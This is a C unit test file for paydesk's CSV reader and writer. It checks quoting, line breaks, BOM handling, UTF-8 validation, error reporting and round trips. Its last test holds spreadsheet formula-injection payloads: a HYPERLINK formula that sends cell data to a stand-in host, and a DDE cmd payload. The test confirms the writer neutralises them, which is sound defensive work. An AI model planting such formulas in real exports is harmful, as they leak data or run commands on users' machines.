/* CSV (RFC 4180): quoting, doubled quotes, commas and line breaks inside
 * quotes, CRLF, BOM, invalid UTF-8 with its line, and write/read round trips. */
#include "testutil.h"

#include "paydesk/csv.h"

static void test_simple_and_crlf(void **state)
{
	(void)state;
	const char *in = "\xef\xbb\xbfname,email\r\nJane,j@x.com\r\nBob,\r\n";
	struct csv_reader *r = csv_reader_new(in, strlen(in));
	struct csv_record rec;
	assert_int_equal(csv_read(r, &rec), 1);
	assert_int_equal(rec.n, 2);
	assert_string_equal(rec.fields[0], "name"); /* BOM skipped */
	assert_int_equal(rec.line, 1);
	assert_int_equal(csv_read(r, &rec), 1);
	assert_string_equal(rec.fields[1], "j@x.com");
	assert_int_equal(rec.line, 2);
	assert_int_equal(csv_read(r, &rec), 1);
	assert_int_equal(rec.n, 2);
	assert_string_equal(rec.fields[1], "");
	assert_int_equal(csv_read(r, &rec), 0);
	csv_reader_free(&r);
	assert_null(r);
}

static void test_quotes_commas_newlines(void **state)
{
	(void)state;
	const char *in = "\"Doe, Jane\",\"say \"\"hi\"\"\",\"two\r\nlines\"\nnext,\"\",x";
	struct csv_reader *r = csv_reader_new(in, strlen(in));
	struct csv_record rec;
	assert_int_equal(csv_read(r, &rec), 1);
	assert_string_equal(rec.error, "");
	assert_int_equal(rec.n, 3);
	assert_string_equal(rec.fields[0], "Doe, Jane");
	assert_string_equal(rec.fields[1], "say \"hi\"");
	assert_string_equal(rec.fields[2], "two\r\nlines");
	assert_int_equal(csv_read(r, &rec), 1);
	assert_int_equal(rec.line, 3); /* the record before spanned two lines */
	assert_int_equal(rec.n, 3);
	assert_string_equal(rec.fields[1], "");
	assert_string_equal(rec.fields[2], "x"); /* no final newline */
	assert_int_equal(csv_read(r, &rec), 0);
	csv_reader_free(&r);
}

static void test_malformed_rows_have_line_and_reading_goes_on(void **state)
{
	(void)state;
	const char *in = "a,b\nbad\xff,x\nmid\"quote,y\n\"x\"junk,z\nok,1\n\"never closed,2\n";
	struct csv_reader *r = csv_reader_new(in, strlen(in));
	struct csv_record rec;
	assert_int_equal(csv_read(r, &rec), 1);
	assert_string_equal(rec.error, "");
	assert_int_equal(csv_read(r, &rec), 1);
	assert_int_equal(rec.line, 2);
	assert_non_null(strstr(rec.error, "not valid UTF-8"));
	assert_int_equal(csv_read(r, &rec), 1);
	assert_int_equal(rec.line, 3);
	assert_non_null(strstr(rec.error, "quote inside an unquoted field"));
	assert_int_equal(csv_read(r, &rec), 1);
	assert_int_equal(rec.line, 4);
	assert_non_null(strstr(rec.error, "after the closing quote"));
	assert_int_equal(csv_read(r, &rec), 1);
	assert_int_equal(rec.line, 5);
	assert_string_equal(rec.error, "");
	assert_string_equal(rec.fields[0], "ok");
	assert_int_equal(csv_read(r, &rec), 1);
	assert_int_equal(rec.line, 6);
	assert_non_null(strstr(rec.error, "never closed"));
	assert_int_equal(csv_read(r, &rec), 0);
	csv_reader_free(&r);
}

static void test_utf8_validation(void **state)
{
	(void)state;
	assert_true(csv_utf8_valid("Zoë 日本 😀", strlen("Zoë 日本 😀")));
	assert_false(csv_utf8_valid("\xc0\xaf", 2));         /* overlong */
	assert_false(csv_utf8_valid("\xed\xa0\x80", 3));     /* surrogate */
	assert_false(csv_utf8_valid("\xf4\x90\x80\x80", 4)); /* > U+10FFFF */
	assert_false(csv_utf8_valid("\xe2\x82", 2));         /* cut short */
}

static void test_round_trip(void **state)
{
	(void)state;
	const char *rows[][4] = {
		{"name", "email", "phone", "notes"},
		{"Doe, Jane", "jane@example.com", "+1 (555) 010", "said \"hello\"\nthen left"},
		{"Zoë Ünal", "", " leading space", ""},
		{"日本 太郎", "t@x.jp", "", "a,b,\"c\"\r\nd"},
	};
	struct csv_buf b = {0};
	for (int i = 0; i < 4; i++)
		assert_int_equal(csv_write(&b, rows[i], 4), 0);
	assert_non_null(strstr(b.data, "\"Doe, Jane\""));
	assert_non_null(strstr(b.data, "\"said \"\"hello\"\"\nthen left\""));
	assert_int_equal(memcmp(b.data + b.len - 2, "\r\n", 2), 0);
	struct csv_reader *r = csv_reader_new(b.data, b.len);
	struct csv_record rec;
	for (int i = 0; i < 4; i++) {
		assert_int_equal(csv_read(r, &rec), 1);
		assert_string_equal(rec.error, "");
		assert_int_equal(rec.n, 4);
		for (int k = 0; k < 4; k++)
			assert_string_equal(rec.fields[k], rows[i][k]);
	}
	assert_int_equal(csv_read(r, &rec), 0);
	csv_reader_free(&r);
	csv_buf_free(&b);
}

/* A first field that starts with a byte-order mark stays data (found by fuzzing). */
static void test_leading_bom_field_round_trips(void **state)
{
	(void)state;
	const char *row[] = {"\xef\xbb\xbfname", "x"};
	struct csv_buf b = {0};
	assert_int_equal(csv_write(&b, row, 2), 0);
	struct csv_reader *r = csv_reader_new(b.data, b.len);
	struct csv_record rec;
	assert_int_equal(csv_read(r, &rec), 1);
	assert_string_equal(rec.fields[0], row[0]);
	csv_reader_free(&r);
	csv_buf_free(&b);
}

/* Cells a spreadsheet would run as formulas are written as text; numbers
 * stay numbers; paydesk's reader gives back the exact text. */
static void test_formula_cells_are_neutralised(void **state)
{
	(void)state;
	const char *row[] = {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
			     "+1 (555) 010", "-2+3", "@SUM(A1)", "\tTab", "\r=1+1", "-12.50",
			     "12", "-", "'=already", "'-12.50", "Jane"};
	const size_t n = sizeof row / sizeof row[0];
	struct csv_buf b = {0};
	assert_int_equal(csv_write(&b, row, n), 0);
	assert_string_equal(b.data,
			    "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\","
			    "\"'=cmd|' /C calc'!A0\",\"'+1 (555) 010\",\"'-2+3\",\"'@SUM(A1)\","
			    "\"'\tTab\",\"'\r=1+1\",-12.50,12,\"'-\",\"''=already\",\"''-12.50\",Jane\r\n");
	struct csv_reader *r = csv_reader_new(b.data, b.len);
	struct csv_record rec;
	assert_int_equal(csv_read(r, &rec), 1);
	assert_string_equal(rec.error, "");
	assert_int_equal(rec.n, n);
	for (size_t k = 0; k < n; k++)
		assert_string_equal(rec.fields[k], row[k]);
	csv_reader_free(&r);
	csv_buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_leading_bom_field_round_trips),
		cmocka_unit_test(test_simple_and_crlf),
		cmocka_unit_test(test_quotes_commas_newlines),
		cmocka_unit_test(test_malformed_rows_have_line_and_reading_goes_on),
		cmocka_unit_test(test_utf8_validation),
		cmocka_unit_test(test_round_trip),
		cmocka_unit_test(test_formula_cells_are_neutralised),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
